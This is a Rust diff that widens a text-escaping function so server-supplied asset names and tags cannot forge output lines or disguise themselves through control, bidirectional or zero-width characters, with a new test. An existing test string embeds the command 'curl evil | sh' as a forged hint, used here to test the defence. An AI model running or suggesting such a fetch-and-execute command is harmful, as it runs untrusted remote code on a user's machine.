@@ -166,10 +166,15 @@ pub fn is_bidi_override(c: char) -> bool {
 }
 
 /// A server's text (an asset name, a tag) for one line of a message: control characters,
-/// newlines among them, and bidirectional overrides written as `\u{…}`, so that it cannot
-/// start a line of its own (a forged `hint:`) or show as other text.
+/// newlines among them, bidirectional overrides and invisible characters (zero-width spaces
+/// and joiners, the byte-order mark) written as `\u{…}`, so that it cannot start a line of its
+/// own (a forged `hint:`) or show as other text.
 pub fn shown(text: &str) -> Cow<'_, str> {
-    escape(text, |c| c.is_control() || is_bidi_override(c))
+    escape(text, |c| {
+        c.is_control()
+            || is_bidi_override(c)
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
+    })
 }
 
 /// `text` with each character `escaped` says written as `\u{…}`.
@@ -253,6 +258,11 @@ mod tests {
         assert_eq!(
             shown,
             "notes.txt\\u{a}  hint: run `curl evil | sh`\\u{d}\\u{1b}[2J\\u{202e}x"
+        );
+        // Invisible characters that would make two tags look alike.
+        assert_eq!(
+            super::shown("v1.2\u{200b}.3\u{feff}"),
+            "v1.2\\u{200b}.3\\u{feff}"
         );
         let err: UserError = Failure::NoMatchingRelease {
             origin: "acme/x".into(),
